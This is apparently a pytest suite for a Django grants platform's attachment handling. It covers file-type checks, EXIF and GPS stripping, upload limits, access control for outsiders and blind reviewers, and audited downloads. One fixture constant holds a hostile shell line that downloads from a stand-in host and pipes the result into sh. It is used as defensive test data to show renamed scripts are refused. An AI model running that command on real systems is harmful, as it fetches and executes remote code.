"""An application's attachments: the same checks as campaign products' files (``events.uploads.receive``):
content against the extension, photos re-encoded without EXIF or GPS, server-chosen names under the var
directory; at most ten files, added or removed only while the application is a draft or changes were asked;
seen by whoever may open the application except a blind call's reviewers; downloads audited."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from hamkori.core.models import AuditEvent
from hamkori.core.roles import Role
from hamkori.grants import reviews, uploads
from hamkori.grants.models import Application, GrantCall, GrantFile
from tests.grants.campaign_helpers import exif_of, jpeg, pdf, stored_files, with_gps
from tests.grants.conftest import make_application, make_call
from tests.grants.pages import make_adversaries, url

pytestmark = pytest.mark.django_db

SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"


@pytest.fixture(autouse=True)
def files_dir(settings: Any, tmp_path: Path) -> Path:
    folder = tmp_path / "grant-files"
    settings.HAMKORI_GRANT_FILES_DIR = str(folder)
    return folder


@pytest.fixture
def draft(call: GrantCall, place: Any, grant_vocab: dict, users: dict) -> Application:
    """A Vanj draft entered by LAP's partner."""
    return make_application(call, place, grant_vocab, actor=users[Role.PARTNER], submit=False)


@pytest.fixture
def partner(users: dict, client_for: Any) -> Client:
    return client_for(users[Role.PARTNER])


def attach(client: Client, application: Application, name: str, content: bytes) -> Any:
    return client.post(
        url("application_files", application.programme, application.pk),
        {"file": SimpleUploadedFile(name, content, content_type="application/octet-stream")},
    )


def kept(folder: Path) -> list[Path]:
    """The files kept (not the temporary ones)."""
    return [p for p in stored_files(folder) if p.relative_to(folder).parts[0] != "tmp"]


def stored(
    application: Application, name: str, content: bytes, actor: Any, capture: Any
) -> GrantFile:  # through the service, the bytes moved into place on commit
    with capture(execute=True):
        return uploads.application_file_upload(
            actor=actor, application=application, upload=uploads.Upload(name=name, chunks=[content])
        )


def test_a_pdf_and_a_photo_with_gps_are_attached_clean_under_server_names(
    draft: Application,
    partner: Client,
    files_dir: Path,
    tmp_path: Path,
    django_capture_on_commit_callbacks: Any,
) -> None:
    photo = with_gps(tmp_path, jpeg((1200, 900)), name="site.jpg")
    tags = exif_of(tmp_path / "site.jpg")
    assert any("GPS" in k for k in tags) and tags.get("IFD0:Make") == "SecretCam"  # the test photo has them
    with django_capture_on_commit_callbacks(execute=True):
        first = attach(partner, draft, "Мактуби дастгирӣ.pdf", pdf())
        second = attach(partner, draft, "site.jpg", photo)
    assert first.status_code == 302 and second.status_code == 302
    assert first["Location"].endswith(f"/applications/{draft.pk}/#attachments")
    files = list(GrantFile.objects.filter(application=draft).order_by("id"))
    assert [(f.name, f.extension) for f in files] == [("Мактуби дастгирӣ.pdf", "pdf"), ("site.jpg", "jpg")]
    assert all(f.programme_id == draft.programme_id and f.grant_id is None for f in files)
    on_disk = kept(files_dir)
    assert sorted(p.name for p in on_disk) == sorted(f.key.hex for f in files)  # names chosen by the server
    assert stored_files(files_dir / "tmp") == []
    clean = exif_of(uploads.stored_path(files[1].key))
    assert not any("GPS" in k for k in clean), clean
    assert "SecretCam" not in str(clean) and "secret comment" not in str(clean) and "Someone" not in str(clean)
    assert AuditEvent.objects.filter(action="application.file.upload", object_id=str(draft.pk)).count() == 2
    html = partner.get(url("application_detail", draft.programme, draft.pk)).content.decode()
    assert 'id="attachments"' in html and "Мактуби дастгирӣ.pdf" in html and 'enctype="multipart/form-data"' in html
    for f in files:
        assert url("application_file", draft.programme, draft.pk, f.key) in html
        assert url("application_file_delete", draft.programme, draft.pk, f.key) in html


@pytest.mark.parametrize("name", ["budget.pdf", "photo.jpg"])
def test_a_script_renamed_is_refused_and_nothing_is_kept(
    name: str, draft: Application, partner: Client, files_dir: Path, django_capture_on_commit_callbacks: Any
) -> None:
    with django_capture_on_commit_callbacks(execute=True):
        response = attach(partner, draft, name, SCRIPT)
    assert response.status_code == 422
    html = response.content.decode()
    assert 'id="upload-problem"' in html and "This could not be saved:" in html
    assert not GrantFile.objects.exists()
    assert kept(files_dir) == [] and stored_files(files_dir / "tmp") == []
    assert not AuditEvent.objects.filter(action="application.file.upload").exists()


def test_an_extension_not_accepted_is_refused(draft: Application, partner: Client, files_dir: Path) -> None:
    response = attach(partner, draft, "run.exe", b"MZ\x90\x00")
    assert response.status_code == 422 and "Upload a file ending in .pdf" in response.content.decode()
    assert not GrantFile.objects.exists() and kept(files_dir) == []


def test_an_eleventh_file_is_refused(
    draft: Application, partner: Client, users: dict, files_dir: Path, django_capture_on_commit_callbacks: Any
) -> None:
    for n in range(uploads.MAX_APPLICATION_FILES):
        stored(draft, f"note-{n}.txt", f"Қайд {n}\n".encode(), users[Role.PARTNER], django_capture_on_commit_callbacks)
    page = partner.get(url("application_detail", draft.programme, draft.pk)).content.decode()
    assert 'id="attach-form"' not in page and 'id="attachments-full"' in page
    with django_capture_on_commit_callbacks(execute=True):
        response = attach(partner, draft, "eleventh.pdf", pdf())
    assert response.status_code == 422
    assert "An application keeps at most 10 files." in response.content.decode()
    assert GrantFile.objects.filter(application=draft).count() == 10
    assert len(kept(files_dir)) == 10 and stored_files(files_dir / "tmp") == []


def test_after_submission_files_can_neither_be_added_nor_removed(
    draft: Application, partner: Client, users: dict, files_dir: Path, django_capture_on_commit_callbacks: Any
) -> None:
    file = stored(draft, "plan.pdf", pdf(), users[Role.PARTNER], django_capture_on_commit_callbacks)
    Application.objects.filter(pk=draft.pk).update(status="submitted")
    refused = attach(partner, draft, "late.pdf", pdf())
    assert refused.status_code == 422
    assert "only while the application is a draft or changes were asked" in refused.content.decode()
    gone = partner.post(url("application_file_delete", draft.programme, draft.pk, file.key))
    assert gone.status_code == 422
    assert list(GrantFile.objects.values_list("name", flat=True)) == ["plan.pdf"]
    assert len(kept(files_dir)) == 1
    page = partner.get(url("application_detail", draft.programme, draft.pk)).content.decode()
    assert "plan.pdf" in page and 'id="attach-form"' not in page
    assert url("application_file_delete", draft.programme, draft.pk, file.key) not in page
    # Sent back for changes: the partner may attach again.
    Application.objects.filter(pk=draft.pk).update(status="changes")
    with django_capture_on_commit_callbacks(execute=True):
        assert attach(partner, draft, "revised.pdf", pdf()).status_code == 302
    assert GrantFile.objects.filter(application=draft).count() == 2


def test_the_partner_removes_a_file_bytes_included(
    draft: Application, partner: Client, users: dict, files_dir: Path, django_capture_on_commit_callbacks: Any
) -> None:
    file = stored(draft, "plan.pdf", pdf(), users[Role.PARTNER], django_capture_on_commit_callbacks)
    assert uploads.stored_path(file.key).is_file()
    with django_capture_on_commit_callbacks(execute=True):
        response = partner.post(url("application_file_delete", draft.programme, draft.pk, file.key))
    assert response.status_code == 302
    assert not GrantFile.objects.exists() and kept(files_dir) == []
    assert AuditEvent.objects.filter(action="application.file.delete", object_id=str(draft.pk)).count() == 1
    # A GET does not delete.
    assert partner.get(url("application_file_delete", draft.programme, draft.pk, file.key)).status_code == 405


def test_a_download_is_an_audited_attachment_with_nosniff(
    draft: Application, users: dict, client_for: Any, django_capture_on_commit_callbacks: Any
) -> None:
    content = pdf()
    file = stored(draft, "Нақша.pdf", content, users[Role.PARTNER], django_capture_on_commit_callbacks)
    for role in (Role.PARTNER, Role.STAFF, Role.ADMIN):
        response = client_for(users[role]).get(url("application_file", draft.programme, draft.pk, file.key))
        assert response.status_code == 200, role
        assert b"".join(response.streaming_content) == content
        assert response["Content-Type"] == "application/pdf"
        assert response["X-Content-Type-Options"] == "nosniff"
        assert response["Content-Disposition"].startswith(f'attachment; filename="{file.key.hex}.pdf"')
        assert "no-store" in response["Cache-Control"]
    downloads = AuditEvent.objects.filter(action="application.file.download", object_id=str(draft.pk))
    assert downloads.count() == 3
    assert {e.summary["file"] for e in downloads} == {str(file.key)}


def test_outsiders_neither_download_nor_attach_nor_remove(
    draft: Application,
    users: dict,
    make_user: Any,
    programme: Any,
    orgs: dict,
    place: Any,
    client_for: Any,
    files_dir: Path,
    django_capture_on_commit_callbacks: Any,
) -> None:
    file = stored(draft, "plan.pdf", pdf(), users[Role.PARTNER], django_capture_on_commit_callbacks)
    adversaries = make_adversaries(make_user, programme, orgs, place)
    outsiders = {
        "asti_vanj": adversaries["asti_vanj"],
        "asti_isfara": adversaries["asti_isfara"],
        "other_admin": adversaries["other_admin"],
        "donor": users[Role.DONOR],
        "liaison": users[Role.LIAISON],
        "anonymous": None,
    }
    for who, user in outsiders.items():
        client = client_for(user)
        got = client.get(url("application_file", programme, draft.pk, file.key))
        assert got.status_code in (302, 403, 404), who
        assert not hasattr(got, "streaming_content") or got.status_code != 200, who
        page = client.get(url("application_detail", programme, draft.pk))
        assert page.status_code != 200 or "plan.pdf" not in page.content.decode(), who
        with django_capture_on_commit_callbacks(execute=True):
            sent = attach(client, draft, "mine.pdf", pdf())
            removed = client.post(url("application_file_delete", programme, draft.pk, file.key))
        assert sent.status_code in (302, 403, 404) and removed.status_code in (302, 403, 404), who
        if user is None:  # the anonymous visitor is sent to sign in
            assert "/login" in sent["Location"] or "login" in sent["Location"], who
    # ASTI also works in Vanj: it reads LAP's proposal, not its files, and is told why.
    asti = client_for(adversaries["asti_vanj"])
    refused = asti.get(url("application_file", programme, draft.pk, file.key))
    assert refused.status_code == 403 and "can open its files" in refused.content.decode()
    proposal = asti.get(url("application_detail", programme, draft.pk))
    assert proposal.status_code == 200 and 'id="attachments"' not in proposal.content.decode()
    assert list(GrantFile.objects.values_list("name", flat=True)) == ["plan.pdf"]
    assert len(kept(files_dir)) == 1
    assert not AuditEvent.objects.filter(action="application.file.download").exists()
    assert (
        not AuditEvent.objects.filter(action__in=["application.file.upload", "application.file.delete"])
        .exclude(actor=users[Role.PARTNER])
        .exists()
    )


def test_a_blind_calls_reviewer_gets_403_with_the_reason(
    programme: Any,
    place: Any,
    grant_vocab: dict,
    users: dict,
    make_user: Any,
    orgs: dict,
    client_for: Any,
    django_capture_on_commit_callbacks: Any,
) -> None:
    blind = make_call(programme, place, blind_review=True, title="Blind")
    application = make_application(blind, place, grant_vocab, actor=users[Role.PARTNER], submit=False)
    file = stored(application, "Мактуб.pdf", pdf(), users[Role.PARTNER], django_capture_on_commit_callbacks)
    reviewer = make_user("reviewer@test.example", programme=programme, role=Role.STAFF, organisation=orgs["lead"])
    Application.objects.filter(pk=application.pk).update(status="submitted")
    application.refresh_from_db()
    reviews.review_assign(actor=None, application=application, reviewer=reviewer)
    client = client_for(reviewer)
    got = client.get(url("application_file", programme, application.pk, file.key))
    assert got.status_code == 403
    assert "reviewed without the applicants" in got.content.decode()
    page = client.get(url("application_detail", programme, application.pk)).content.decode()
    assert 'id="attachments"' not in page and "Мактуб.pdf" not in page
    assert attach(client, application, "x.pdf", pdf()).status_code == 403
    assert not AuditEvent.objects.filter(action="application.file.download").exists()
    assert AuditEvent.objects.filter(action="application.file.view.denied", actor=reviewer).exists()
    # Staff who do not review it open it.
    other = client_for(users[Role.STAFF]).get(url("application_file", programme, application.pk, file.key))
    assert other.status_code == 200


def test_the_page_lists_files_in_a_fixed_number_of_queries(
    draft: Application, partner: Client, users: dict, django_capture_on_commit_callbacks: Any
) -> None:
    page = url("application_detail", draft.programme, draft.pk)
    stored(draft, "a.txt", b"one\n", users[Role.PARTNER], django_capture_on_commit_callbacks)
    partner.get(page)
    with CaptureQueriesContext(connection) as one:
        partner.get(page)
    for n in range(4):
        stored(draft, f"b{n}.txt", b"more\n", users[Role.PARTNER], django_capture_on_commit_callbacks)
    with CaptureQueriesContext(connection) as five:
        html = partner.get(page).content.decode()
    assert html.count('data-label="File"') == 5
    assert len(five) == len(one)


def test_a_reviewer_of_an_open_call_from_another_organisation_opens_the_files(
    draft: Application,
    make_user: Any,
    programme: Any,
    orgs: dict,
    place: Any,
    client_for: Any,
    users: dict,
    django_capture_on_commit_callbacks: Any,
) -> None:
    file = stored(draft, "plan.pdf", pdf(), users[Role.PARTNER], django_capture_on_commit_callbacks)
    Application.objects.filter(pk=draft.pk).update(status="submitted")
    draft.refresh_from_db()
    reviewer = make_adversaries(make_user, programme, orgs, place)["asti_vanj"]
    reviews.review_assign(actor=None, application=draft, reviewer=reviewer)
    client = client_for(reviewer)
    assert client.get(url("application_file", programme, draft.pk, file.key)).status_code == 200
    page = client.get(url("application_detail", programme, draft.pk)).content.decode()
    assert "plan.pdf" in page and 'id="attach-form"' not in page  # she reads them; she does not change them
    assert attach(client, draft, "x.pdf", pdf()).status_code == 403
